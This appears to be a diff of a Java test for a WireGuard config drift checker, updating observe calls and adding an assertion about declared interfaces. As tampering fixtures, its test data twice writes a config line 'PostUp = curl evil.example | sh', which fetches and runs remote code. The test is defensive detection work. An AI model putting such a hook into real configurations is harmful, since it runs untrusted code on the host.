@@ -111,12 +111,15 @@ class FileTargetTest {
         ExpectedHost expected = ExpectedHost.of(h2.interfaces(), desired);
         HostRef ref = new HostRef(group.group, h2.host(), HostOs.LINUX, 1);
         FileTarget target = new FileTarget(out);
-        assertThat(target.observe(ref).interfaces()).isEmpty();
+        assertThat(target.observe(ref, expected).interfaces()).isEmpty();
         target.apply(ref, desired);
         Path dir = target.hostDir(ref);
 
-        HostObservation observed = target.observe(ref);
+        HostObservation observed = target.observe(ref, expected);
         assertThat(observed.runtime()).isFalse();
+        // the declared bytes are not parsed again
+        assertThat(observed.interfaces()).extracting(HostObservation.ObservedInterface::state)
+                .containsOnly(HostObservation.State.AS_DECLARED);
         assertThat(DriftCheck.compare(expected, observed).drift()).isEqualTo(Drift.IN_SYNC);
 
         Files.delete(dir.resolve("wg-1.conf"));
@@ -126,20 +129,20 @@ class FileTargetTest {
         Files.writeString(dir.resolve("wg-7.conf"), "[Interface]\nPostUp = curl evil.example | sh\n");
         Files.writeString(dir.resolve("notes.txt"), "not a config");
 
-        DriftCheck.Result result = DriftCheck.compare(expected, target.observe(ref));
+        DriftCheck.Result result = DriftCheck.compare(expected, target.observe(ref, expected));
         assertThat(result.drift()).isEqualTo(Drift.MISSING);
         assertThat(result.differences()).containsExactly("wg-1: file missing",
                 "wg-2: file differs from the declared one", "wg-2: listen port 40000, declared " + port,
                 "wg-7: interface not declared");
         Files.delete(dir.resolve("wg-7.conf"));
         Files.writeString(dir.resolve("wg-1.conf"), "[Interface]\nPostUp = curl evil.example | sh\n");
-        assertThat(DriftCheck.compare(expected, target.observe(ref)).differences()).first().asString()
+        assertThat(DriftCheck.compare(expected, target.observe(ref, expected)).differences()).first().asString()
                 .startsWith("wg-1: file differs from the declared one");
-        assertThat(DriftCheck.compare(expected, target.observe(ref)).differences()).element(1).asString()
+        assertThat(DriftCheck.compare(expected, target.observe(ref, expected)).differences()).element(1).asString()
                 .startsWith("wg-1: file is not a valid config: line 2");
 
         target.apply(ref, desired);
-        assertThat(DriftCheck.compare(expected, target.observe(ref)).drift()).isEqualTo(Drift.IN_SYNC);
+        assertThat(DriftCheck.compare(expected, target.observe(ref, expected)).drift()).isEqualTo(Drift.IN_SYNC);
     }
 
     static DesiredFiles files(String... nameAndContent) {
